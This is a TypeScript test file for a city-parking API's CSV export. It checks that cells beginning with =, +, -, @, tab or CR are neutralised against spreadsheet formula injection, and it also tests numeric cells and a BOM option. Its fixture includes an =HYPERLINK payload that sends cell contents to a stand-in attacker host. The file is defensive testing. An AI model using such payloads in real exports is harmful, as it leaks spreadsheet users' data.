import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { useFakeApp } from './helpers/setup.ts';
import { csvCell } from '../src/http/formats/csv.ts';
import { get } from './helpers/app.ts';
import { fixture } from './helpers/fake-upstream.ts';
import { DRESDEN_V1, register, replayAsCurrent } from './fixtures/city-parking/routes.ts';

/**
 * CSV that a spreadsheet opens safely (docs/contract.md, "Formats"): upstream text that starts like
 * a formula is neutralised as OWASP recommends, numbers stay numbers, and `?bom=1` adds a BOM. The
 * fake ParkenDD serves a copy of the Dresden recording whose lots carry the attack strings.
 */
const HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"x")';
// ParkenDD names are trimmed by the adapter, so a tab or CR never leads one: the cell test below covers those.
const NAMES = [HYPERLINK, '+1', '-2+3', '@SUM(1)', '-'];

/** The recording with one lot per hostile name (its lots cloned under new ids where it has fewer). */
function hostile(): string {
  const d = JSON.parse(replayAsCurrent(fixture(DRESDEN_V1).toString('utf8'))) as { lots: Record<string, unknown>[] };
  const lots = NAMES.map((name, i) => ({ ...d.lots[i % d.lots.length], id: `hostile${i}`, name }));
  return JSON.stringify({ ...d, lots });
}

const ctx = useFakeApp((fake) => {
  register(fake);
  fake.get('/Dresden', () => ({ body: hostile(), headers: { 'content-type': 'application/json' } }));
});
const PATH = '/api/v1/cities/dresden/parking';
const rows = (text: string) => parse(text, { record_delimiter: '\r\n', bom: false }) as string[][];

test('CSV: text starting with =, +, -, @, tab or CR gets a leading quote and is quoted; numbers stay numbers', async () => {
  const r = await get(`${ctx.app.url}${PATH}?format=csv`);
  assert.equal(r.status, 200);
  // Each neutralised cell is quoted on the wire, with the quote inside.
  for (const s of NAMES) assert.ok(r.text.includes(`"'${s.replaceAll('"', '""')}"`), `${s} neutralised on the wire`);
  const [head, ...body] = rows(r.text);
  const col = (name: string) => head!.indexOf(name);
  assert.ok(col('name') >= 0 && col('capacity') >= 0, head!.join(','));
  assert.deepEqual(body.map((row) => row[col('name')]).sort(), NAMES.map((s) => `'${s}`).sort());
  const cells = body.flat();
  // Nothing a spreadsheet would evaluate is left.
  assert.deepEqual(
    cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
    [],
  );
  // Numbers are written as numbers, untouched (JSON's values, unquoted).
  const json = await get(`${ctx.app.url}${PATH}`);
  const lots = (json.json as { data: { capacity: number; lat: number; lon: number }[] }).data;
  const numeric = body.map((row) => [row[col('capacity')], row[col('lat')], row[col('lon')]]);
  assert.deepEqual(numeric.sort(), lots.map((l) => [String(l.capacity), String(l.lat), String(l.lon)]).sort());
});

test('CSV cells: tab- and CR-leading text is neutralised; a negative number is a number, a negative-looking text is not', async () => {
  assert.equal(csvCell(-3.5, 'scalar'), '-3.5');
  assert.equal(csvCell(-2, 'scalar'), '-2');
  assert.equal(csvCell('-3.5', 'scalar'), `"'-3.5"`);
  assert.equal(csvCell('a=b', 'scalar'), 'a=b');
  assert.equal(csvCell('\tcmd', 'scalar'), `"'\tcmd"`);
  assert.equal(csvCell('\r=1+1', 'scalar'), `"'\r=1+1"`);
  assert.equal(csvCell('@x"y', 'scalar'), `"'@x""y"`);
  assert.equal(csvCell(['=x'], 'json'), '"[""=x""]"');
});

test('?bom=1 starts the CSV with a UTF-8 BOM (own ETag); bom=0 and none do not; another value is a 422', async () => {
  const plain = await fetch(`${ctx.app.url}${PATH}?format=csv`);
  const bytes = Buffer.from(await plain.arrayBuffer());
  assert.notDeepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  const withBom = await fetch(`${ctx.app.url}${PATH}?format=csv&bom=1`);
  const bomBytes = Buffer.from(await withBom.arrayBuffer());
  assert.deepEqual([...bomBytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  assert.deepEqual(bomBytes.subarray(3), bytes);
  assert.notEqual(withBom.headers.get('etag'), plain.headers.get('etag'));
  const zero = Buffer.from(await (await fetch(`${ctx.app.url}${PATH}?format=csv&bom=0`)).arrayBuffer());
  assert.deepEqual(zero, bytes);
  const bad = await get(`${ctx.app.url}${PATH}?format=csv&bom=%3Cx%3E`);
  assert.equal(bad.status, 422);
  assert.equal((bad.json as { parameter?: string }).parameter, 'bom');
  assert.doesNotMatch(bad.text, /<x>/);
});
